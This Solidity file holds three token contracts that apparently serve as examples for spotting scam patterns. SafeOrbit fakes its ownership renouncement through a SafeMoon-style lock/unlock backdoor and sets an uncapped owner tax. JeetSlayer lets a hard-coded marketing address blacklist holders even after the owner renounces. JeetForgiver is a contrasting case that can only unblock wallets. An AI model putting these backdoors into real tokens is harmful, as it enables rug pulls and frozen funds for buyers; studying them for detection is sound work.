// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {LaunchBase} from "./s00Base.sol";

/// Renounced on the day of the launch. The lock of the old SafeMoon gives it back.
contract SafeOrbit is LaunchBase, Ownable {
  address private _previousOwner;
  uint256 private _lockTime;
  uint256 public taxFeePercent = 2;

  constructor() ERC20("Safe Orbit", "ORBIT") Ownable(msg.sender) {
    _previousOwner = msg.sender;
    _lockTime = block.timestamp;
    renounceOwnership();
  }

  function getUnlockTime() external view returns (uint256) {
    return _lockTime;
  }

  function lock(uint256 time) external onlyOwner {
    _previousOwner = owner();
    _lockTime = block.timestamp + time;
    _transferOwnership(address(0));
  }

  function unlock() external {
    require(_previousOwner == msg.sender, "You don't have permission to unlock");
    require(block.timestamp >= _lockTime, "Contract is locked");
    _transferOwnership(_previousOwner);
  }

  function setTaxFeePercent(uint256 taxFee) external onlyOwner {
    taxFeePercent = taxFee;
  }

  function _update(address from, address to, uint256 value) internal override {
    if (to == uniswapV2Pair && !_isExcludedFromFee[from]) {
      uint256 fee = (value * taxFeePercent) / 100;
      super._update(from, _taxWallet, fee);
      value -= fee;
    }
    super._update(from, to, value);
  }
}

/// Owned by nobody; but marketing was never the owner.
contract JeetSlayer is LaunchBase, Ownable {
  address private constant MARKETING = 0x5A3c9b1e7d2F4860aBcD1E9f3377a2c4E6B80d15;
  mapping(address => bool) private _isSniper;

  modifier onlyMarketing() {
    require(_msgSender() == MARKETING || _msgSender() == owner());
    _;
  }

  constructor() ERC20("Jeet Slayer", "SLAY") Ownable(msg.sender) {
    renounceOwnership();
  }

  function manageSnipers(address[] memory wallets, bool status) public onlyMarketing {
    for (uint256 i = 0; i < wallets.length; i++) {
      if (wallets[i] != uniswapV2Pair && wallets[i] != address(uniswapV2Router)) _isSniper[wallets[i]] = status;
    }
  }

  function _update(address from, address to, uint256 value) internal override {
    require(!_isSniper[from] && !_isSniper[to], "TOKEN: Your account is a sniper");
    super._update(from, to, value);
  }
}

/// Two bots were listed when it was made. Marketing can only forgive.
contract JeetForgiver is LaunchBase {
  address private constant MARKETING = 0x5A3c9b1e7d2F4860aBcD1E9f3377a2c4E6B80d15;
  mapping(address => bool) private _isSniper;

  constructor() ERC20("Jeet Forgiver", "FORGIVE") {
    _isSniper[0x1111111111111111111111111111111111111111] = true;
    _isSniper[0x2222222222222222222222222222222222222222] = true;
  }

  function delSnipers(address[] memory wallets) public {
    require(msg.sender == MARKETING);
    for (uint256 i = 0; i < wallets.length; i++) _isSniper[wallets[i]] = false;
  }

  function _update(address from, address to, uint256 value) internal override {
    require(!_isSniper[from], "TOKEN: Your account is a sniper");
    super._update(from, to, value);
  }
}
